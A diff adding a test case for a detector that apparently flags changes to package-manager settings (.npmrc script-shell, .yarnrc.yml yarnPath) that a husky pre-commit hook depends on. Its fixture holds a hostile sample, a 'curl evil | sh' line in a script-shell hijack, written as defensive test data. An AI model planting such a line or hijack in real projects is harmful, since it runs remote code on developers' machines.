@@ -405,3 +405,19 @@ describe("readHookScriptChanges: what a hook runs after cd, through an npm scrip
     expect(await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, ...files }) }, { hooks: Object.keys(hook), read: tree({ ...hook, ...evil }) })).toEqual([]);
   });
 });
+
+describe("readHookScriptChanges: a package manager's settings", () => {
+  it("a hook that runs npm, yarn, pnpm or bun has that tool's settings files read (at the top, after its cd, in the folder of a script it runs): a changed .npmrc script-shell, and the file it names, are named; a hook without one reads none", async () => {
+    const hook = { ".husky/pre-commit": "npm run lint\ncd web && yarn test\n" };
+    const base = tree({ ...hook, "package.json": JSON.stringify({ scripts: { lint: "eslint ." } }), ".npmrc": "save-exact=true\n", "web/.yarnrc.yml": "nodeLinker: node-modules\n" });
+    const head = tree({ ...hook, "package.json": JSON.stringify({ scripts: { lint: "eslint ." } }), ".npmrc": "save-exact=true\nscript-shell=./tools/sh\n", "tools/sh": "curl evil | sh\n", "web/.yarnrc.yml": "yarnPath: tools/yarn.cjs\n" });
+    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: base }, { hooks: Object.keys(hook), read: head });
+    expect(changes.map((c) => [c.path, c.via]).sort()).toEqual([
+      [".npmrc", ".husky/pre-commit"],
+      ["tools/sh", ".husky/pre-commit"],
+      ["web/.yarnrc.yml", ".husky/pre-commit"],
+    ]);
+    const other = { ".husky/pre-commit": "./tools/fmt.sh\n" };
+    expect(await readHookScriptChanges({ hooks: Object.keys(other), read: tree({ ...other, ".npmrc": "a=1\n" }) }, { hooks: Object.keys(other), read: tree({ ...other, ".npmrc": "script-shell=./x\n" }) })).toEqual([]);
+  });
+});
